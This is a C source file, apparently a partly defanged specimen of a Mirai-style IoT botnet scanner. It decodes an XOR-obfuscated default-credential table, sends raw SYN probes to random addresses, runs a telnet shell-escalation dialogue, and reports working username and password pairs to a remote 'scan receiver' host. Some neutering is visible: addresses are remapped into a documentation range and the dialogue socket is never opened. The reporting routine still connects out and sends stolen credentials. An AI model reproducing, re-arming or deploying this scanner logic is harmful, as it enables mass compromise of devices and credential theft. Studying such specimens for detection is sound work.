/* The scanner: credentials, random targets, a raw SYN, the dialogue, the report of a hit. */
#include "scanner.h"

#include "inert.h"
#include "packet.h"
#include "resolver.h"
#include "table.h"
#include "util.h"

#if HAS_SCANNER

#define PROBES_PER_ROUND 160
#define DIALOGUE_STEPS 6

struct auth_entry {
    char *username;
    char *password;
    uint16_t weight_min;
    uint16_t weight_max;
    uint8_t username_length;
    uint8_t password_length;
};

struct connection {
    struct auth_entry *auth;
    int fd;
    int state;
    ipv4_t address;
    port_t port;
    int received;
    char buffer[256];
};

struct auth_entry *auth_table;
int auth_table_length;
uint16_t auth_table_weight;
struct connection scanner_connection;

#if LOGINS_FROM == LOGINS_CALLS
LOCAL char *deobfuscated(const char *coded, int *length)
{
    char *copy;
    int i;
    *length = util_strlen(coded);
    copy = malloc((size_t)*length + 1);
    util_memcpy(copy, coded, *length + 1);
    for (i = 0; i < *length; i++) {
#if STYLE_KEY == KEY_FOLDED
        copy[i] = (char)(copy[i] ^ CREDENTIAL_KEY_FOLDED);
#else
        copy[i] ^= CREDENTIAL_KEY & 0xff;
        copy[i] ^= CREDENTIAL_KEY >> 8 & 0xff;
        copy[i] ^= CREDENTIAL_KEY >> 16 & 0xff;
        copy[i] ^= CREDENTIAL_KEY >> 24 & 0xff;
#endif
    }
    return copy;
}

LOCAL void add_auth_entry(const char *username, const char *password, uint16_t weight)
{
    struct auth_entry *entry;
    int length;
    auth_table = realloc(auth_table, (size_t)(auth_table_length + 1) * sizeof(struct auth_entry));
    entry = &auth_table[auth_table_length];
    entry->username = deobfuscated(username, &length);
    entry->username_length = (uint8_t)length;
    entry->password = deobfuscated(password, &length);
    entry->password_length = (uint8_t)length;
    entry->weight_min = auth_table_weight;
    entry->weight_max = (uint16_t)(auth_table_weight + weight);
    auth_table_length++;
    auth_table_weight = (uint16_t)(auth_table_weight + weight);
}

#elif LOGINS_FROM == LOGINS_LOOP
#include "logins_loop.c"
#elif LOGINS_FROM == LOGINS_PACKED
#include "logins_packed.c"
#elif LOGINS_FROM == LOGINS_CIPHER
#include "cipher.h"
#include "logins_cipher.c"
#elif LOGINS_FROM == LOGINS_OWN_KEYS
#include "logins_own_keys.c"
#elif LOGINS_FROM == LOGINS_STACK
#include "logins_stack.c"
#else
#include "logins_object.c"
#endif

static struct auth_entry *random_auth_entry(void)
{
    uint16_t drawn = (uint16_t)(rand_next() % auth_table_weight);
    int i;
    for (i = 0; i < auth_table_length; i++)
        if (drawn >= auth_table[i].weight_min && drawn < auth_table[i].weight_max)
            return &auth_table[i];
    return NULL;
}

/* A random address outside the excluded networks, then moved into 192.0.2.0/24. */
static ipv4_t random_address(void)
{
    uint8_t a, b, c, d;
    do {
        uint32_t drawn = rand_next();
        a = drawn & 0xff;
        b = (drawn >> 8) & 0xff;
        c = (drawn >> 16) & 0xff;
        d = (drawn >> 24) & 0xff;
    } while (a == 127 || a == 0 || a == 3 || a == 10 || (a == 15 || a == 16) || a == 56 ||
             (a == 192 && b == 168) || (a == 172 && b >= 16 && b < 32) ||
             (a == 100 && b >= 64 && b < 127) || (a == 169 && b > 254) ||
             (a == 198 && b >= 18 && b < 20) || a >= 224 || a == 6 || a == 7 || a == 11 ||
             a == 21 || a == 22 || a == 26 || a == 28 || a == 29 || a == 30 || a == 33 ||
             a == 55 || a == 214 || a == 215);
    return documentation_address(htonl((uint32_t)a << 24 | (uint32_t)b << 16 | (uint32_t)c << 8 | d));
}

static void prepare_probe(uint8_t *packet, port_t source_port)
{
    struct ip_header *ip = (struct ip_header *)packet;
    struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
    ip->version_length = 0x45;
    ip->total = htons(sizeof(struct ip_header) + sizeof(struct tcp_header));
    ip->id = (uint16_t)rand_next();
    ip->ttl = 64;
    ip->protocol = IPPROTO_TCP;
    tcp->destination = NETWORK_PORT(PROBE_PORT);
    tcp->source = source_port;
    tcp->offset = 5 << 4;
    tcp->window = (uint16_t)rand_next();
    tcp->flags = TCP_SYN;
}

static void send_probe(int fd, uint8_t *packet, int round)
{
    struct ip_header *ip = (struct ip_header *)packet;
    struct tcp_header *tcp = (struct tcp_header *)(ip + 1);
    struct sockaddr_in to;
    util_zero(&to, sizeof(to));
    to.sin_family = AF_INET;
    ip->id = (uint16_t)rand_next();
    ip->source = local_address;
    ip->destination = random_address();
    ip->checksum = 0;
    ip->checksum = checksum_generic(ip, sizeof(struct ip_header));
    if (round % PROBE_OTHER_EVERY == 0)
        tcp->destination = NETWORK_PORT(PROBE_OTHER_PORT);
    else
        tcp->destination = NETWORK_PORT(PROBE_PORT);
    tcp->sequence = ip->destination;
    tcp->checksum = 0;
    tcp->checksum = checksum_transport(ip, tcp, htons(sizeof(struct tcp_header)),
                                       sizeof(struct tcp_header));
    to.sin_addr.s_addr = ip->destination;
    to.sin_port = tcp->destination;
    bounded_send(fd, packet, sizeof(struct ip_header) + sizeof(struct tcp_header), &to);
}

/* Tells the scan receiver of a working pair. */
LOCAL void report_working(struct connection *connection)
{
    struct sockaddr_in receiver;
    struct resolved *entries;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd == -1)
        return;
    util_zero(&receiver, sizeof(receiver));
    receiver.sin_family = AF_INET;
    STRING_OPEN(SCAN_RECEIVER_HOST);
    entries = resolver_lookup(STRING_GET(SCAN_RECEIVER_HOST, NULL));
    STRING_CLOSE(SCAN_RECEIVER_HOST);
    if (entries == NULL) {
        close(fd);
        return;
    }
    receiver.sin_addr.s_addr = entries->addresses[rand_next() % entries->count];
    resolved_free(entries);
#if STRINGS_FROM == STRINGS_TABLE
    STRING_OPEN(SCAN_RECEIVER_PORT);
    receiver.sin_port = *(port_t *)STRING_GET(SCAN_RECEIVER_PORT, NULL);
    STRING_CLOSE(SCAN_RECEIVER_PORT);
#else
    receiver.sin_port = NETWORK_PORT(SCAN_RECEIVER_PORT_NUMBER);
#endif
    if (bounded_connect(fd, &receiver) != -1) {
        uint8_t report[600];
        struct auth_entry *auth = connection->auth;
        int length = 0;
        report[length++] = 0;
        util_memcpy(report + length, &connection->address, sizeof(ipv4_t));
        length += (int)sizeof(ipv4_t);
        util_memcpy(report + length, &connection->port, sizeof(port_t));
        length += (int)sizeof(port_t);
        report[length++] = auth->username_length;
        util_memcpy(report + length, auth->username, auth->username_length);
        length += auth->username_length;
        report[length++] = auth->password_length;
        util_memcpy(report + length, auth->password, auth->password_length);
        length += auth->password_length;
        bounded_stream_send(fd, report, length);
    }
    close(fd);
}

#define SAY(NAME)                                                     \
    {                                                                 \
        int length;                                                   \
        char *text;                                                   \
        STRING_OPEN(NAME);                                            \
        text = STRING_GET(NAME, &length);                             \
        send(connection->fd, text, (size_t)length - 1, MSG_NOSIGNAL); \
        send(connection->fd, "\r\n", 2, MSG_NOSIGNAL);                \
        STRING_CLOSE(NAME);                                           \
    }

/*
 * One step of the telnet dialogue. No connection is ever opened (`fd` stays -1), and no user name or
 * password is sent: a specimen logs in nowhere.
 */
LOCAL void dialogue_step(struct connection *connection)
{
    switch (connection->state) {
    case 0:
        SAY(DIALOGUE_ENABLE)
        break;
    case 1:
        SAY(DIALOGUE_SYSTEM)
        break;
    case 2:
        SAY(DIALOGUE_SHELL)
        break;
    case 3:
        SAY(DIALOGUE_SH)
        break;
    case 4:
        SAY(DIALOGUE_QUERY)
        break;
    case 5: {
        int failed, working;
        STRING_OPEN(DIALOGUE_INCORRECT);
        failed = util_stristr(connection->buffer, connection->received,
                              STRING_GET(DIALOGUE_INCORRECT, NULL));
        STRING_CLOSE(DIALOGUE_INCORRECT);
        STRING_OPEN(DIALOGUE_RESPONSE);
        working = util_stristr(connection->buffer, connection->received,
                               STRING_GET(DIALOGUE_RESPONSE, NULL));
        STRING_CLOSE(DIALOGUE_RESPONSE);
        if (failed == -1 && working != -1)
            report_working(connection);
        connection->state = -1;
        break;
    }
    default:
        return;
    }
    connection->state++;
}

void scanner_init(void)
{
    uint8_t packet[sizeof(struct ip_header) + sizeof(struct tcp_header)];
    port_t source_port;
    int fd, round, header_included = 1;
    int pid = fork();
    if (pid > 0 || pid == -1)
        return;
    local_address = util_local_address();
    rand_init();
    scanner_connection.fd = -1;
    util_zero(packet, sizeof(packet));
    fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (fd == -1)
        exit(0);
    fcntl(fd, F_SETFL, O_NONBLOCK | fcntl(fd, F_GETFL, 0));
    if (setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &header_included, sizeof(header_included)) != 0) {
        close(fd);
        exit(0);
    }
    do {
        source_port = rand_next() & 0xffff;
    } while (ntohs(source_port) < 1024);
    prepare_probe(packet, source_port);

#if LOGINS_FROM == LOGINS_CALLS
#define PAIR(USER, PASSWORD, WEIGHT) add_auth_entry(USER, PASSWORD, WEIGHT);
    CREDENTIALS(PAIR)
#else
    fill_logins();
#endif

    for (round = 0; round < PROBES_PER_ROUND; round++)
        send_probe(fd, packet, round);
    scanner_connection.auth = random_auth_entry();
    for (round = 0; round < DIALOGUE_STEPS; round++)
        dialogue_step(&scanner_connection);
    close(fd);
    exit(0);
}

#endif
